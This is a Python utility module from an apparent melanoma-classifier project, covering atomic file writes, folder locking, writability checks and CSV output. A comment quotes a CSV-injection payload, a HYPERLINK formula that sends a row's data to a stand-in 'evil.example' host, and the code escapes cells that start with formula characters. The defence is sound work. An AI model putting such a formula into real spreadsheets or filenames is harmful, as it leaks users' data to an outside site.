"""Write files and directories so that readers see the old version or the new one, never half."""

from __future__ import annotations

import contextlib
import csv
import errno
import logging
import os
import shutil
import signal
import tempfile
import threading
from collections.abc import Callable, Iterable, Iterator, Mapping
from pathlib import Path

from melanoma.errors import UserError

log = logging.getLogger(__name__)

# What stops a run as Ctrl-C does: SIGTERM (kill, a CI timeout) and SIGHUP (a closed
# terminal, a dropped ssh session; no SIGHUP on Windows).
STOPS = tuple(
    getattr(signal, name) for name in ("SIGINT", "SIGTERM", "SIGHUP") if hasattr(signal, name)
)


@contextlib.contextmanager
def atomic_path(final: Path) -> Iterator[Path]:
    """Yield a temp path beside `final`; on success rename it over `final`, else delete it.

    Works for a file or a directory (e.g. an .mlpackage) written at the temp path.
    """
    with atomic_paths(final) as (temp,):
        yield temp


@contextlib.contextmanager
def atomic_paths(*finals: Path) -> Iterator[list[Path]]:
    """atomic_path for files that belong together, such as an artifact and its manifest:
    each is renamed into place in order, at the end, with Ctrl-C and SIGTERM held, so an
    interrupt cannot leave a new one beside an old one."""
    finals = tuple(Path(final) for final in finals)
    temps: list[Path] = []
    try:
        temps += [_new_temp(final) for final in finals]
        try:
            yield temps
        except OSError as err:
            named = _naming_the_output(err, temps, finals)
            if named is None:
                raise
            raise named from None
        for temp in temps:
            if not temp.exists():
                raise FileNotFoundError(f"{temp}: writer produced nothing")
        with signals_held():
            for temp, final in zip(temps, finals, strict=True):
                try:
                    _keep_mode(final, temp)
                    _replace(temp, final)
                except OSError as err:  # os.replace names the temp file, about to go
                    why = f"cannot replace it ({err.strerror})"
                    raise OSError(err.errno, why, str(final)) from None
    finally:
        for temp in temps:
            _remove(temp)


def _naming_the_output(err: OSError, temps: list[Path], finals: tuple[Path, ...]) -> OSError | None:
    """A full disk while writing: write() names no file (the CLI printed only "No space
    left on device") and a temp name means nothing to the user; name the output instead."""
    names = {str(temp): final for temp, final in zip(temps, finals, strict=True)}
    if err.filename in names:
        final = names[err.filename]
    elif err.filename is None and err.errno in (errno.ENOSPC, errno.EDQUOT, errno.EFBIG):
        final = finals[0]
    else:
        return None
    return OSError(err.errno, f"cannot write it ({err.strerror})", str(final))


def _new_temp(final: Path) -> Path:
    """A free name beside `final` (created, then removed: the writer makes it a file or a
    directory)."""
    refuse_special_file(final)
    try:
        final.parent.mkdir(parents=True, exist_ok=True)
        fd, name = tempfile.mkstemp(prefix=f".{final.name}.", suffix=".tmp", dir=final.parent)
    except OSError as err:  # name the file the caller asked for, not our temp name
        nearest = next((p for p in final.parents if p.exists()), None)
        if nearest is not None and not nearest.is_dir():  # mkdir says only "File exists"
            raise OSError(err.errno, f"{nearest} is not a directory", str(final)) from None
        raise OSError(err.errno, f"cannot write here ({err.strerror})", str(final)) from None
    os.close(fd)
    Path(name).unlink()
    return Path(name)


@contextlib.contextmanager
def signals_held(deliver: bool = True) -> Iterator[None]:
    """Hold Ctrl-C, SIGTERM and SIGHUP inside, for writes an interrupt must not tear (an artifact
    and its manifest, a resume state whose loss would lose the whole run). One that comes
    meanwhile is raised once the block is done, or with deliver=False dropped (a second
    press while a stop is already being saved). Handlers only change on the main thread."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return
    came: list[int] = []
    # One the process ignores (SIGHUP under nohup) stays ignored: holding it would not.
    stops = [stop for stop in STOPS if signal.getsignal(stop) != signal.SIG_IGN]
    previous = {stop: signal.signal(stop, lambda signum, _: came.append(signum)) for stop in stops}
    try:
        yield
    finally:
        for stop, handler in previous.items():
            signal.signal(stop, signal.SIG_DFL if handler is None else handler)
    if deliver and came:  # not reached while an exception is on its way out
        signal.raise_signal(came[0])


def refuse_non_utf8_name(path: Path, what: str) -> None:
    """torch, onnxruntime and coremltools take a path only as a UTF-8 string: under a folder
    whose name is not UTF-8 (an old Latin-1 archive's), loading or checking an artifact
    failed inside them with a TypeError, a traceback or a row "failed" for a good file."""
    try:
        os.path.abspath(path).encode("utf-8")
    except UnicodeEncodeError:
        raise UserError(
            f"{path}: {what} is under a name that is not UTF-8, which torch, onnxruntime "
            "and coremltools cannot open: rename it"
        ) from None


def write_utf8(path: Path, text: str) -> None:
    """`text` into `path` (not atomically: give it a temp path) as UTF-8, as write_csv does.
    In the locale's encoding a report's ✅ or ± failed where that is not UTF-8 (Windows'
    cp1252, PYTHONUTF8=0 under LC_ALL=C); a file name that is not UTF-8 (Python holds its
    bytes as surrogates) failed even where it is. Lines end in LF on every system: Windows'
    text mode wrote CRLF, and a metadata.json's bytes are part of its checkpoint's sha256."""
    path.write_text(text, encoding="utf-8", errors="surrogateescape", newline="\n")


# What spreadsheets take as the start of a formula (OWASP's list for CSV injection): a photo
# named '=HYPERLINK("http:\\evil.example\?"&B2,"see details").jpg' became a link that sent
# its row's score to that site when predict's CSV was opened in one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text_cell(path: str) -> str:
    """A relative path that a spreadsheet would take for a formula, written as ./path: the
    same file to every program that opens it, and text to the spreadsheet. (Quoting it
    with a ' instead, as OWASP suggests, would name a file that is not there.) For the
    path columns of predict's CSV and the benchmark's report.csv; as_text_value for the rest."""
    return f"./{path}" if path.startswith(FORMULA_STARTS) else path


def as_text_value(text: str) -> str:
    """A text cell that is not a path (a threshold's name or an artifact's precision, as a
    foreign manifest or checkpoint spells it) that a spreadsheet would take for a formula,
    written with OWASP's leading ': text to the spreadsheet, and there is no file to name.
    For every other text column of predict's CSV and the benchmark's report.csv."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def write_csv(path: Path, header: Iterable, rows: Iterable) -> None:
    """A CSV of `header` then `rows`, written atomically. UTF-8; a file name that is not
    UTF-8 (Python holds its bytes as surrogates) is written back as those bytes."""
    with (
        atomic_path(path) as temp,
        temp.open("w", newline="", encoding="utf-8", errors="surrogateescape") as handle,
    ):
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def _keep_mode(final: Path, temp: Path) -> None:
    """A file written over keeps its permission bits, as one rewritten with open() does: a
    predictions CSV its owner had made 0600 came back 0644, the umask's mode of the temp
    file renamed over it. A new file keeps the umask's mode."""
    if os.path.isfile(final) and os.path.isfile(temp):
        with contextlib.suppress(OSError):  # a file system without modes (FAT): as before
            shutil.copymode(final, temp)


def _replace(temp: Path, final: Path) -> None:
    if temp.is_dir() and final.exists():
        # rename() cannot replace a non-empty directory: move the old one aside first.
        old = final.with_name(f".{final.name}.old-{os.getpid()}")
        final.rename(old)
        temp.rename(final)
        _remove(old)
    else:
        os.replace(temp, final)


def _remove(path: Path) -> None:
    if path.is_dir():
        shutil.rmtree(path, ignore_errors=True)
    elif path.exists():
        path.unlink()


@contextlib.contextmanager
def output_dir(path: Path) -> Iterator[Path]:
    """Create an output directory before the work (an unwritable --out fails in seconds,
    not after minutes of training) and remove it again if the work fails before writing
    anything into it, with any parent folder it had to create for it."""
    path = Path(path)
    # os.path's tests, not Path's: they say False where a name is too long to look up.
    created = [p for p in (path, *path.parents) if not os.path.lexists(p)]  # deepest first
    try:
        try:
            path.mkdir(parents=True, exist_ok=True)
        except OSError as err:  # after some parents, maybe (a name too long for the disk)
            raise UserError(f"{path}: cannot create output directory ({err.strerror})") from None
        check_writable(path, is_dir=True)
        yield path
    except BaseException:
        for folder in created:  # one mkdir did not make (a name too long) is skipped
            if not os.path.isdir(folder):
                continue
            if any(folder.iterdir()):
                break
            folder.rmdir()
        raise


@contextlib.contextmanager
def folder_locked(
    folder: Path, shared: bool = False, busy: Callable[[], None] | None = None
) -> Iterator[None]:
    """Hold a lock on `folder` for this block: exclusive for a writer, `shared` for a
    reader. flock on the folder itself, so no lock file is left behind, and the lock goes
    with the process, even on a kill. When another process holds it, `busy()` is called:
    it raises to refuse, or returns to wait. Where there is no flock (Windows, some network
    mounts), the block runs unlocked."""
    fcntl = _fcntl()
    fd = _open_folder(folder) if fcntl else None
    if fd is None:  # no flock (Windows), or not a folder: the caller names that
        yield
        return
    try:
        mode = fcntl.LOCK_SH if shared else fcntl.LOCK_EX
        try:
            fcntl.flock(fd, mode | fcntl.LOCK_NB)
        except BlockingIOError:
            if busy is not None:
                busy()
            fcntl.flock(fd, mode)
        except OSError:  # a file system without locks
            pass
        yield
    finally:
        os.close(fd)


def held_by_another(folder: Path) -> bool:
    """Whether another run holds `folder` (folder_locked by a writer): a probe with a shared
    lock, let go at once, for a check that refuses rather than waits. False where there is
    no flock, as folder_locked then runs unlocked. flock knows no owner: a folder this
    process holds through another descriptor reads as held too."""
    fcntl = _fcntl()
    fd = _open_folder(folder) if fcntl else None
    if fd is None:
        return False
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    except OSError:  # a file system without locks
        return False
    finally:
        os.close(fd)  # lets go of the probe's lock
    return False


def _fcntl():
    try:
        import fcntl
    except ImportError:  # Windows
        return None
    return fcntl


def _open_folder(folder: Path) -> int | None:
    try:  # O_DIRECTORY: a FIFO given as the folder must fail here, not block the open
        return os.open(folder, os.O_RDONLY | os.O_DIRECTORY | os.O_NONBLOCK)
    except OSError:  # not a folder, or not readable (mode -wx): nothing to lock it with
        return None


# What a message can truthfully say of a folder another process holds: flock does not say
# who holds it, and every one of these commands takes the lock on some folder.
HELD_BY_ANOTHER_RUN = (
    "another run (train, compare, qat, nested-cv, melanoma-export or melanoma-bench) holds "
    "this folder"
)


def waiting_for(folder: Path, other: str) -> Callable[[], None]:
    """A folder_locked `busy` that waits, saying what for: a silent wait looks like a hang."""

    def say() -> None:
        log.warning("%s: %s; waiting for it to end", folder, other)

    return say


def refuse_special_file(path: Path) -> None:
    """Refuse to replace a device, FIFO or socket with the file written: the rename would
    swap it for a regular file (`--csv /dev/null`, run as root, replaced /dev/null itself)."""
    if os.path.exists(path) and not (os.path.isfile(path) or os.path.isdir(path)):
        raise UserError(f"{path}: not a regular file (a device, pipe or socket); name a file")


def check_writable(path: Path, is_dir: bool) -> None:
    """Fail now unless `path` is (or can become) a directory (is_dir) or a file, and a new
    file can really be created where it goes."""
    path = Path(path)
    folder = path if is_dir else path.parent
    existing = folder
    try:
        if path.exists() and path.is_dir() != is_dir:
            raise UserError(f"{path}: {'not a directory' if is_dir else 'is a directory'}")
        refuse_special_file(path)
        existing = next(p for p in (folder, *folder.parents) if p.exists())
        if not existing.is_dir():
            raise UserError(f"{path}: {existing} is not a directory")
        # Probe as the atomic writers will write (a temp file in the nearest existing
        # folder): os.access says yes to root even where nothing can be created, e.g. /proc.
        fd, probe = tempfile.mkstemp(prefix=".melanoma-probe.", dir=existing)
        os.close(fd)
        os.unlink(probe)
    except OSError as err:
        raise UserError(f"{path}: cannot write in {existing} ({err.strerror})") from None


def refuse_writing_into_inputs(
    output: Path, option: str, inputs: Mapping[str, str | os.PathLike[str] | None]
) -> None:
    """Refuse an output file that is one of the command's inputs or lies in an input folder
    (`inputs` maps what each is to its path; None is skipped): `--roc CKPT/metadata.json`
    would replace the checkpoint just read, and a file in the data folder breaks its layout."""
    where = Path(output).resolve()
    for what, given in inputs.items():
        if given is not None and where.is_relative_to(Path(given).resolve()):
            raise UserError(
                f"{output}: {option} would write into the {what} ({given}); "
                "choose a path outside it"
            )
